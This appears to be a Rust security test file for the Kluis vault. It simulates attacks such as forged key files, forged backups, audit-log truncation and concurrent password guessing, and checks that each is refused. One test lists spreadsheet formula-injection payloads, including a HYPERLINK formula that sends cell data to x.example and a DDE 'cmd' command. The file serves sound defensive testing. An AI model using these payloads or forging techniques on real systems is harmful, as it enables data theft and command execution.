//! Attacks on the vault's files, written from the attacker's side (SECURITY.md > What we
//! protect, from whom; TESTING.md > Attacker scenarios): someone who can write the vault folder,
//! a colleague with a copy of it and their own password, someone who edits the database with
//! its key. Each was seen succeeding before the fix that made it fail (issue 17).
mod common;

use common::*;
use kluis_core::backup::{self, restore, Authority};
use kluis_core::crm::{persons, search};
use kluis_core::dto::crm::PersonInput;
use kluis_core::job::Job;
use kluis_core::{user_admin, verify, Session};
use rusqlite::Connection;
use std::path::Path;

mod forge {
    //! What an attacker who read the (open) source can build without any secret: a value
    //! sealed to a public key from the key file, in Kluis's own format.
    use chacha20poly1305::aead::{Aead, KeyInit, Payload};
    use chacha20poly1305::{XChaCha20Poly1305, XNonce};
    use data_encoding::BASE64;
    use hkdf::Hkdf;
    use rand_core::{OsRng, RngCore};
    use serde_json::{json, Value};
    use sha2::Sha256;
    use x25519_dalek::{PublicKey, StaticSecret};

    pub fn b64(v: &Value) -> Vec<u8> {
        BASE64.decode(v.as_str().unwrap().as_bytes()).unwrap()
    }

    pub fn hex(b: &[u8]) -> String {
        b.iter().map(|x| format!("{x:02x}")).collect()
    }

    /// Ephemeral X25519 + HKDF-SHA256 + XChaCha20-Poly1305, as the key file seals.
    pub fn seal_to(public: &[u8], plaintext: &[u8], aad: &[u8]) -> Value {
        let pk: [u8; 32] = public.try_into().unwrap();
        let eph = StaticSecret::random_from_rng(OsRng);
        let eph_pub = PublicKey::from(&eph);
        let shared = eph.diffie_hellman(&PublicKey::from(pk));
        let mut salt = [0u8; 64];
        salt[..32].copy_from_slice(eph_pub.as_bytes());
        salt[32..].copy_from_slice(&pk);
        let mut key = [0u8; 32];
        Hkdf::<Sha256>::new(Some(&salt), shared.as_bytes())
            .expand(b"kluis/x25519-seal/v1", &mut key)
            .unwrap();
        let mut nonce = [0u8; 24];
        OsRng.fill_bytes(&mut nonce);
        let ct = XChaCha20Poly1305::new((&key).into())
            .encrypt(
                XNonce::from_slice(&nonce),
                Payload {
                    msg: plaintext,
                    aad,
                },
            )
            .unwrap();
        json!({ "ephemeral": BASE64.encode(eph_pub.as_bytes()),
                "nonce": BASE64.encode(&nonce), "ct": BASE64.encode(&ct) })
    }

    /// The associated data a slot's sealed database key is bound to (from the source).
    pub fn dbkey_aad(kf: &Value, slot: &Value) -> Vec<u8> {
        let version = slot.get("v").and_then(Value::as_u64).unwrap_or(1);
        let mut s = format!(
            "kluis-keys/v{version}\0dbkey\0vault={}\0slot={}\0pk={}",
            hex(&b64(&kf["vaultId"])),
            hex(&b64(&slot["id"])),
            hex(&b64(&slot["publicKey"]))
        );
        if let Some(u) = slot.get("user").filter(|u| !u.is_null()) {
            s.push_str(&format!(
                "\0user={}\0tag={}\0kdf={},{},{}\0salt={}",
                u["userId"],
                hex(&b64(&u["tag"])),
                u["kdf"]["mKib"],
                u["kdf"]["t"],
                u["kdf"]["p"],
                hex(&b64(&u["salt"]))
            ));
        }
        s.push_str(&format!("\0gen={}", kf["generation"]));
        s.into_bytes()
    }

    /// Seals `key` to slot `index` in place of the database key it holds.
    pub fn swap_db_key(kf: &mut Value, index: usize, key: &[u8; 32]) {
        let slot = kf["slots"][index].clone();
        let aad = dbkey_aad(kf, &slot);
        kf["slots"][index]["sealedDbKey"] = seal_to(&b64(&slot["publicKey"]), key, &aad);
    }
}

/// Opens a database file with a raw key, as `sqlcipher` on the command line would.
fn open_raw(path: &Path, key: &[u8; 32]) -> rusqlite::Result<Connection> {
    let c = Connection::open(path)?;
    c.execute_batch(&format!(
        "PRAGMA key = \"x'{}'\"; PRAGMA cipher_log_level = NONE;",
        forge::hex(key)
    ))?;
    c.query_row("SELECT count(*) FROM sqlite_master", [], |r| {
        r.get::<_, i64>(0)
    })?;
    Ok(c)
}

/// Every value of every table, as text (what `sqlite3 .dump` would show).
fn dump(c: &Connection) -> String {
    let tables: Vec<String> = c
        .prepare("SELECT name FROM sqlite_master WHERE type = 'table'")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap();
    let mut out = String::new();
    for t in tables {
        let Ok(mut stmt) = c.prepare(&format!("SELECT * FROM \"{t}\"")) else {
            continue;
        };
        let n = stmt.column_count();
        let mut rows = stmt.query([]).unwrap();
        while let Ok(Some(r)) = rows.next() {
            for i in 0..n {
                use rusqlite::types::ValueRef::*;
                match r.get_ref(i).unwrap() {
                    Integer(v) => out.push_str(&v.to_string()),
                    Real(v) => out.push_str(&v.to_string()),
                    Text(v) | Blob(v) => out.push_str(&String::from_utf8_lossy(v)),
                    Null => {}
                }
                out.push('|');
            }
            out.push('\n');
        }
    }
    out
}

/// The raw database key, as the holder of this password gets it from the key file.
fn raw_key_of(dir: &Path, username: &str, password: &str) -> [u8; 32] {
    let kf = kluis_vault::KeyFile::load(&dir.join("kluis.keys")).unwrap();
    let key = kf
        .unlock_user(username, &pw(password))
        .unwrap()
        .db_key
        .unwrap();
    let stmt = key.pragma_statement("key");
    let hex = &stmt[stmt.find("x'").unwrap() + 2..][..64];
    let mut out = [0u8; 32];
    for (i, b) in out.iter_mut().enumerate() {
        *b = u8::from_str_radix(&hex[2 * i..2 * i + 2], 16).unwrap();
    }
    out
}

fn person(s: &Session, given: &str, family: &str) -> i64 {
    persons::create(
        s,
        &PersonInput {
            given_name: given.into(),
            family_name: family.into(),
            ..Default::default()
        },
    )
    .unwrap()
    .id
}

fn finds(s: &Session, q: &str) -> bool {
    !search::search(s, q, 10).unwrap().is_empty()
}

/// Someone who can write the vault folder (but knows no password) seals a database key of
/// their choosing to the administrator's slot and leaves the real key file beside it as the
/// "previous" one. When the administrator signs in, the vault must refuse the key file, not
/// re-encrypt the database to the attacker's key.
#[test]
fn a_swapped_slot_is_refused_and_never_rekeys_the_vault() {
    let fx = Fixture::new();
    let v = fx.vault();
    let (admin, _) = fx.create(&v);
    person(&admin, "Geheime", "Klant");
    drop(admin);
    drop(v);

    let keys = fx.dir.path().join("kluis.keys");
    let real = std::fs::read(&keys).unwrap();
    let mut kf: serde_json::Value = serde_json::from_slice(&real).unwrap();
    let attacker_key = [0x42u8; 32];
    forge::swap_db_key(&mut kf, 0, &attacker_key);
    std::fs::write(fx.dir.path().join("kluis.keys.prev"), &real).unwrap();
    std::fs::write(&keys, serde_json::to_vec(&kf).unwrap()).unwrap();

    let v = fx.vault();
    let signed_in = v.sign_in("anna", &pw(ADMIN_PW));
    assert!(signed_in.is_err(), "the forged key file was used");
    drop(signed_in);
    drop(v);
    // The attacker's key opens nothing.
    let db = fx.dir.path().join("kluis.db");
    assert!(open_raw(&db, &attacker_key).is_err());
    // With the real key file back, the administrator gets in and the data is there.
    std::fs::write(&keys, &real).unwrap();
    let _ = std::fs::remove_file(fx.dir.path().join("kluis.keys.prev"));
    let v = fx.vault();
    let s = v.sign_in("anna", &pw(ADMIN_PW)).unwrap();
    assert!(finds(&s, "geheime"));
}

/// A colleague with the Guest role copies the vault folder and opens the database with the key
/// their own password unseals: no salary and no absence reason is readable in any table.
#[test]
fn a_guest_with_a_copy_of_the_vault_reads_no_salary_and_no_absence_reason() {
    let fx = Fixture::new();
    let v = fx.vault();
    let (mut admin, _) = fx.create(&v);
    user_admin::add(&mut admin, &new_user("hanna", "Hanna HR", "hr")).unwrap();
    user_admin::add(&mut admin, &new_user("gijs", "Gijs Gast", "guest")).unwrap();
    let hr = signed_in(&v, "hanna");
    let employee: kluis_core::dto::hr::EmployeeInput = serde_json::from_value(serde_json::json!({
        "givenName": "Hortensia", "tussenvoegsel": "", "familyName": "Personeel", "email": null,
        "position": "Boekhouder", "department": null, "contractType": "permanent",
        "hoursPerWeek": 32, "startDate": "2020-02-01", "endDate": null,
        "salaryCents": 4242420, "salaryCurrency": "EUR", "salaryPeriod": "month", "notes": null
    }))
    .unwrap();
    let e = kluis_core::hr::create(&hr, &employee).unwrap();
    kluis_core::hr::add_absence(
        &hr,
        e.id,
        &serde_json::from_value(serde_json::json!({
            "kind": "sick", "startDate": "2026-02-02", "endDate": null,
            "reason": "Migrainemarker"
        }))
        .unwrap(),
    )
    .unwrap();
    drop((hr, admin));
    let guest = signed_in(&v, "gijs");
    drop(guest);
    drop(v);

    let copy = tempfile::tempdir().unwrap();
    for name in ["kluis.db", "kluis.keys"] {
        std::fs::copy(fx.dir.path().join(name), copy.path().join(name)).unwrap();
    }
    let key = raw_key_of(copy.path(), "gijs", "zilveren-maan-boven-zee");
    let c = open_raw(&copy.path().join("kluis.db"), &key).unwrap();
    let all = dump(&c);
    // The guest does open the database: it is their role, not the file, that stops them.
    assert!(all.contains("Bakkerij Jansen"));
    assert!(!all.contains("4242420"), "a salary is readable");
    assert!(
        !all.contains("Migrainemarker"),
        "an absence reason is readable"
    );
}

/// Someone with the database key cuts the end off the audit trail (what they did last). The
/// chain itself still links up; `verify` must find the cut against the anchor in a backup.
#[test]
fn a_cut_audit_tail_is_found_against_a_backup_anchor() {
    let fx = Fixture::new();
    let v = fx.vault();
    let (admin, _) = fx.create(&v);
    let usb = tempfile::tempdir().unwrap();
    backup::set_folder(&admin, Some(usb.path())).unwrap();
    person(&admin, "Eerst", "Klant");
    backup::create(&admin, usb.path(), &Job::unattended()).unwrap();
    let report = verify::run(&admin).unwrap();
    assert!(report.ok(), "{report:?}");
    drop(admin);
    drop(v);

    // Everything from the backup on is cut off (the backup's own entry included).
    let key = raw_key_of(fx.dir.path(), "anna", ADMIN_PW);
    let c = open_raw(&fx.dir.path().join("kluis.db"), &key).unwrap();
    let last: i64 = c
        .query_row("SELECT max(id) FROM audit_log", [], |r| r.get(0))
        .unwrap();
    c.execute_batch(&format!(
        "DROP TRIGGER audit_log_no_delete; DELETE FROM audit_log WHERE id >= {};",
        last - 1
    ))
    .unwrap();
    drop(c);

    let v = fx.vault();
    let admin = v.sign_in("anna", &pw(ADMIN_PW)).unwrap();
    let report = verify::run(&admin).unwrap();
    assert!(!report.ok(), "the cut went unseen: {report:?}");
}

/// Someone changes bytes of a page in the vault file while it is in use, one that signing in
/// never reads: the check reports the page rather than failing. (The UI test of Health showed
/// SQLite's own check stopping at such a page with a database error; this path did not.)
#[test]
fn an_altered_page_is_reported_by_the_check_not_a_database_error() {
    use kluis_core::testkit;
    let dir = tempfile::tempdir().unwrap();
    testkit::seed(dir.path());
    let v = kluis_core::Vault::open(
        kluis_core::paths::VaultPaths::new(dir.path()),
        std::sync::Arc::new(kluis_core::clock::SystemClock),
        kluis_core::KdfParams::fast_for_tests(),
    )
    .unwrap();
    let admin = testkit::signed_in(&v, &testkit::user_for("administrator"));
    // Changed while the vault is open and in use (the breaches table: no one reads it here).
    let page = testkit::root_page(&admin, "breaches").unwrap();
    let db = dir.path().join("kluis.db");
    let mut bytes = std::fs::read(&db).unwrap();
    let at = ((page - 1) * 4096 + 512) as usize;
    bytes[at..at + 64].iter_mut().for_each(|b| *b ^= 0x5a);
    std::fs::write(&db, bytes).unwrap();
    // And the consent ledger edited with the key, as Health's test does.
    testkit::tamper(&admin, "consent_entry", 1).unwrap();

    let report = verify::run(&admin).expect("the check reports, it does not fail");
    assert!(!report.cipher_problems.is_empty(), "{report:?}");
    assert!(!report.integrity_problems.is_empty(), "{report:?}");
    assert!(!report.ok());
}

/// An administrator restores a backup; later a person is erased. Nothing in the vault folder
/// may still hold that person, under any key the folder's key files give.
#[test]
fn after_a_restore_and_an_erasure_no_file_in_the_vault_folder_holds_the_person() {
    let fx = Fixture::new();
    let (admin, officer) = with_privacy_officer(&fx);
    let gone = person(&admin, "Verdwijnmarker", "Klant");
    let usb = tempfile::tempdir().unwrap();
    let b = backup::create(&admin, usb.path(), &Job::unattended()).unwrap();
    drop(officer);
    let v = fx.vault();
    let password = pw(ADMIN_PW);
    let prepared = restore::prepare(
        &v,
        Path::new(&b.path),
        &Authority::Admin {
            session: &admin,
            password: &password,
        },
        &Job::unattended(),
    )
    .unwrap();
    drop(admin);
    prepared.finish(&Job::unattended()).unwrap();
    let officer = v.sign_in("olga", &pw("zilveren-maan-boven-zee")).unwrap();
    kluis_core::privacy::erasure::erase(
        &officer,
        &kluis_core::privacy::erasure::ErasureInput {
            person_id: gone,
            request_id: None,
            lang: kluis_core::dto::privacy::Lang::En,
            mode: None,
        },
    )
    .unwrap();
    drop(officer);
    drop(v);

    // Every key the folder's key files give with the administrator's password.
    let mut keys = Vec::new();
    for e in std::fs::read_dir(fx.dir.path()).unwrap().flatten() {
        if let Ok(kf) = kluis_vault::KeyFile::load(&e.path()) {
            if let Some(k) = kf
                .unlock_user("anna", &pw(ADMIN_PW))
                .ok()
                .and_then(|u| u.db_key)
            {
                let stmt = k.pragma_statement("key");
                let hex = &stmt[stmt.find("x'").unwrap() + 2..][..64];
                let mut out = [0u8; 32];
                for (i, b) in out.iter_mut().enumerate() {
                    *b = u8::from_str_radix(&hex[2 * i..2 * i + 2], 16).unwrap();
                }
                keys.push(out);
            }
        }
    }
    assert!(!keys.is_empty());
    for e in std::fs::read_dir(fx.dir.path()).unwrap().flatten() {
        let bytes = std::fs::read(e.path()).unwrap_or_default();
        let name = e.file_name().to_string_lossy().into_owned();
        assert!(
            !contains(&bytes.to_ascii_lowercase(), "verdwijnmarker"),
            "{name} holds the person in the clear"
        );
        for k in &keys {
            // Every page decrypted, free pages and WAL frames included.
            let pages = if name.ends_with("-wal") {
                wal_pages(&bytes)
            } else {
                bytes.clone()
            };
            assert!(
                !contains(&decrypted_pages(&pages, k), "verdwijnmarker"),
                "{name} holds the erased person"
            );
        }
    }
}

/// Someone who can write the backup folder builds a backup of their own for this vault: a
/// database of their making, sealed to the recovery key's public half from the key file, with
/// the clear header copied from a real backup. A restore with the recovery key must refuse it
/// before anything is replaced.
#[test]
fn a_forged_backup_is_refused_before_anything_is_replaced() {
    use kluis_vault::sealed::{self, Recipient};
    // The victim's vault, with one real backup in the folder.
    let fx = Fixture::new();
    let v = fx.vault();
    let (admin, recovery) = fx.create(&v);
    person(&admin, "Echte", "Klant");
    let usb = tempfile::tempdir().unwrap();
    let real = backup::create(&admin, usb.path(), &Job::unattended()).unwrap();
    drop(admin);
    drop(v);

    // The attacker's own vault supplies a database that passes every check.
    let evil = Fixture::new();
    let ev = evil.vault();
    let (eve, _) = evil.create(&ev);
    person(&eve, "Ingeplante", "Klant");
    let chain = verify::run(&eve).unwrap().audit;
    drop(eve);
    drop(ev);
    let evil_key = raw_key_of(evil.dir.path(), "anna", ADMIN_PW);
    let evil_db = std::fs::read(evil.dir.path().join("kluis.db")).unwrap();

    let kf: serde_json::Value =
        serde_json::from_slice(&std::fs::read(fx.dir.path().join("kluis.keys")).unwrap()).unwrap();
    let recovery_pk: [u8; 32] = kf["slots"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s.get("user").is_none_or(|u| u.is_null()))
        .map(|s| forge::b64(&s["publicKey"]))
        .unwrap()
        .try_into()
        .unwrap();
    // The clear header of the real backup, copied (it is not secret).
    let header = sealed::inspect(std::fs::File::open(&real.path).unwrap())
        .unwrap()
        .metadata;
    let h: serde_json::Value = serde_json::from_slice(&header).unwrap();
    use sha2::Digest;
    let manifest = serde_json::json!({
        "format": "kluis-backup-manifest", "version": 2,
        "vaultId": h["vaultId"], "createdAt": h["createdAt"], "kind": h["kind"],
        "dbKey": forge::hex(&evil_key),
        "keyFile": serde_json::to_string(&kf).unwrap(),
        "auditAnchor": { "id": chain.head_id, "hash": chain.head, "at": null },
        "erasureMark": 0, "dbBytes": evil_db.len(),
        "dbSha256": forge::hex(&sha2::Sha256::digest(&evil_db)),
        "appVersion": "0.1.0",
        // Tags the attacker cannot compute; any value will do for the attempt.
        "auth": { "vault": "00".repeat(32), "recovery": "00".repeat(32) }
    });
    let manifest = serde_json::to_vec(&manifest).unwrap();
    let mut payload = (manifest.len() as u32).to_le_bytes().to_vec();
    payload.extend_from_slice(&manifest);
    payload.extend_from_slice(&evil_db);
    std::fs::remove_file(&real.path).unwrap();
    let file = usb.path().join(Path::new(&real.path).file_name().unwrap());
    let mut out = Vec::new();
    sealed::seal(
        &payload[..],
        &mut out,
        &[Recipient::X25519 {
            public: recovery_pk,
            label: "recovery".into(),
        }],
        &header,
    )
    .unwrap();
    std::fs::write(&file, out).unwrap();

    let v = fx.vault();
    let rk = kluis_vault::RecoveryKey::parse(&recovery).unwrap();
    let by = Authority::Recovery {
        key: &rk,
        confirmation: Some("erased people may come back"),
    };
    let restored = restore::prepare(&v, &file, &by, &Job::unattended());
    assert!(
        matches!(restored, Err(kluis_core::CoreError::BackupUnauthenticated)),
        "the forged backup was accepted: {:?}",
        restored.as_ref().map(|_| ()).err()
    );
    drop(restored);
    // Even with no vault to check it against, the recovery key's own tag is missing.
    let moved = tempfile::tempdir().unwrap();
    for f in ["kluis.db", "kluis.keys"] {
        std::fs::rename(fx.dir.path().join(f), moved.path().join(f)).unwrap();
    }
    assert!(matches!(
        restore::prepare(&v, &file, &by, &Job::unattended()).map(|_| ()),
        Err(kluis_core::CoreError::BackupUnauthenticated)
    ));
    for f in ["kluis.db", "kluis.keys"] {
        std::fs::rename(moved.path().join(f), fx.dir.path().join(f)).unwrap();
    }
    drop(v);
    let v = fx.vault();
    let s = v.sign_in("anna", &pw(ADMIN_PW)).unwrap();
    assert!(finds(&s, "echte"));
    assert!(!finds(&s, "ingeplante"));
}

/// Someone who can type into any field Kluis exports (a web form's name, a breach title, a
/// purpose) plants spreadsheet formulas. No CSV Kluis writes may hand one to a spreadsheet:
/// contact lists, marketing lists, a subject's export, the register, the breach register.
#[test]
fn a_formula_in_any_field_is_text_in_every_csv_kluis_writes() {
    use kluis_core::dto::consent::{ConsentChannel, ConsentInput, StatementInput};
    use kluis_core::dto::crm::ContactPointInput;
    use kluis_core::dto::privacy::Lang;
    use kluis_core::privacy::{
        breaches, consent, marketing, purposes, register, subject_export, templates,
    };
    const FORMULAS: [&str; 5] = [
        "=HYPERLINK(\"http://x.example/?\"&A1)",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
    ];
    let fx = Fixture::new();
    let (admin, officer) = with_privacy_officer(&fx);
    let person = persons::create(
        &admin,
        &PersonInput {
            given_name: FORMULAS[0].into(),
            family_name: FORMULAS[2].into(),
            job_title: Some(FORMULAS[1].into()),
            notes: Some(FORMULAS[3].into()),
            source: Some(FORMULAS[4].into()),
            emails: vec![ContactPointInput {
                label: None,
                value: "klant@example.nl".into(),
                keep_unchecked: false,
            }],
            phones: vec![ContactPointInput {
                label: None,
                value: "+31 6 12345678".into(),
                keep_unchecked: false,
            }],
            ..Default::default()
        },
    )
    .unwrap()
    .id;
    let mut input = templates::templates(Lang::Nl)
        .into_iter()
        .find(|t| t.key == "newsletter")
        .unwrap()
        .input;
    input.name = FORMULAS[0].into();
    let purpose = purposes::create(&officer, &input, None).unwrap().id;
    let statement = consent::publish(
        &officer,
        &StatementInput {
            purpose_id: purpose,
            lang: Lang::Nl,
            body: FORMULAS[3].into(),
        },
    )
    .unwrap()
    .id;
    consent::record(
        &admin,
        &ConsentInput {
            person_id: person,
            purpose_id: purpose,
            granted: true,
            channel: ConsentChannel::Phone,
            occurred_at: None,
            statement_id: Some(statement),
            shown_lang: Some(Lang::Nl),
            evidence: Some(FORMULAS[1].into()),
        },
    )
    .unwrap();
    let mut breach: kluis_core::dto::privacy::BreachInput =
        serde_json::from_value(serde_json::json!({
            "title": FORMULAS[0], "discoveredAt": null, "nature": FORMULAS[1],
            "categories": ["contact"], "subjectsApprox": 1, "recordsApprox": 1,
            "consequences": FORMULAS[2], "measures": FORMULAS[3], "authorityNotifiedAt": null,
            "authorityReference": null, "authorityNotRequired": FORMULAS[4],
            "subjectsInformedAt": null, "subjectsNotInformed": null
        }))
        .unwrap();
    breach.categories = vec!["contact".into()];
    breaches::create(&officer, &breach).unwrap();

    let out = tempfile::tempdir().unwrap();
    let contacts = out.path().join("contacts.csv");
    kluis_core::export::to_file(
        &admin,
        &kluis_core::export::ExportSelection::default(),
        kluis_core::export::ExportFormat::Csv,
        &contacts,
    )
    .unwrap();
    let mailing = out.path().join("mailing.csv");
    marketing::export(&admin, purpose, &mailing).unwrap();
    let reg = out.path().join("register.csv");
    register::export(&officer, register::RegisterFormat::Csv, Lang::Nl, &reg).unwrap();
    let breach_file = out.path().join("breaches.csv");
    breaches::export(&officer, &breach_file).unwrap();
    subject_export::to_folder(&officer, person, None, out.path(), "inzage").unwrap();

    let mut files: Vec<std::path::PathBuf> = vec![contacts, mailing, reg, breach_file];
    for e in std::fs::read_dir(out.path().join("inzage"))
        .unwrap()
        .flatten()
    {
        if e.path().extension().is_some_and(|x| x == "csv") {
            files.push(e.path());
        }
    }
    assert!(files.len() >= 8, "{files:?}");
    let mut planted = 0;
    for f in files {
        let text = std::fs::read_to_string(&f).unwrap();
        let mut r = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        for rec in r.records() {
            for cell in rec.unwrap().iter() {
                let runs = matches!(
                    cell.chars().next(),
                    Some('=' | '+' | '-' | '@' | '\t' | '\r')
                );
                let number = cell
                    .strip_prefix('+')
                    .is_some_and(|d| d.chars().all(|c| c.is_ascii_digit()))
                    || cell.strip_prefix('-').is_some_and(|d| {
                        !d.is_empty() && d.chars().all(|c| c.is_ascii_digit() || c == '.')
                    });
                assert!(
                    !runs || number,
                    "{}: a cell a spreadsheet would run: {cell:?}",
                    f.display()
                );
                if FORMULAS.iter().any(|fm| cell == format!("'{fm}")) {
                    planted += 1;
                }
            }
        }
    }
    // The planted values are there, as text.
    assert!(
        planted >= 10,
        "only {planted} planted formulas found as text"
    );
}

/// A person's processing is restricted (Art. 18): only privacy officers see them. A colleague
/// who enters or imports someone with the same e-mail address must not learn of them through
/// the duplicate warning or the import's duplicate report.
#[test]
fn a_restricted_person_does_not_leak_through_duplicate_warnings() {
    use kluis_core::dto::consent::{RestrictionGround, RestrictionInput};
    use kluis_core::dto::crm::ContactPointInput;
    let fx = Fixture::new();
    let (mut admin, officer) = with_privacy_officer(&fx);
    user_admin::add(&mut admin, &new_user("piet", "Piet", "user")).unwrap();
    let v = fx.vault();
    drop((admin, officer));
    let (admin, mut signed) = first_sign_ins(&v, &["piet"]);
    let piet = signed.pop().unwrap();
    let officer = v.sign_in("olga", &pw(OWN_PW)).unwrap();
    let hidden = persons::create(
        &admin,
        &PersonInput {
            given_name: "Verborgen".into(),
            family_name: "Beperktmarker".into(),
            emails: vec![ContactPointInput {
                label: None,
                value: "beperkt@example.nl".into(),
                keep_unchecked: false,
            }],
            ..Default::default()
        },
    )
    .unwrap()
    .id;
    kluis_core::privacy::restriction::restrict(
        &officer,
        &RestrictionInput {
            person_id: hidden,
            ground: RestrictionGround::AccuracyContested,
            note: None,
        },
    )
    .unwrap();
    let same = PersonInput {
        given_name: "Iemand".into(),
        family_name: "Anders".into(),
        emails: vec![ContactPointInput {
            label: None,
            value: "beperkt@example.nl".into(),
            keep_unchecked: false,
        }],
        ..Default::default()
    };
    let hints = kluis_core::crm::merge::check(&piet, &same, None).unwrap();
    assert!(
        hints.is_empty(),
        "the restricted person was named: {hints:?}"
    );
    // The privacy officer, who handles restrictions, is told.
    assert_eq!(
        kluis_core::crm::merge::check(&officer, &same, None)
            .unwrap()
            .len(),
        1
    );
    let csv = b"Voornaam;Achternaam;E-mail\nIemand;Anders;beperkt@example.nl\n";
    let mapping = kluis_core::import::preview(csv).unwrap().mapping;
    let report = kluis_core::import::run(
        &piet,
        csv,
        &mapping,
        kluis_core::import::ImportMode::AllOrNothing,
        &mut |_, _| {},
        &std::sync::atomic::AtomicBool::new(false),
    )
    .unwrap();
    assert!(report.committed);
    assert!(
        report.duplicates.iter().all(|d| d.existing_id != hidden),
        "the import reported the restricted person: {:?}",
        report.duplicates
    );
}

/// Someone guessing passwords sends many sign-ins at the same moment, hoping they all pass the
/// check before the first failure is written down: only the free attempts get a guess.
#[test]
fn guesses_sent_at_once_cannot_slip_past_the_sign_in_delay() {
    let fx = Fixture::new();
    let v = fx.vault();
    drop(fx.create(&v).0);
    let barrier = std::sync::Barrier::new(10);
    let guessed = std::sync::atomic::AtomicU32::new(0);
    std::thread::scope(|sc| {
        for i in 0..10 {
            let (v, barrier, guessed) = (&v, &barrier, &guessed);
            sc.spawn(move || {
                barrier.wait();
                match v.sign_in("anna", &pw(&format!("raden-{i}-niet-goed"))) {
                    Err(kluis_core::CoreError::AuthFailed) => {
                        guessed.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                    }
                    Err(kluis_core::CoreError::Throttled { .. }) => {}
                    other => panic!("{:?}", other.map(|_| ())),
                }
            });
        }
    });
    assert_eq!(
        guessed.into_inner(),
        kluis_core::throttle::FREE_ATTEMPTS,
        "more guesses were checked than the free attempts"
    );
    // The file that counts them names nobody.
    let raw = std::fs::read_to_string(fx.dir.path().join("kluis.throttle")).unwrap();
    assert!(!raw.contains("anna"));
}
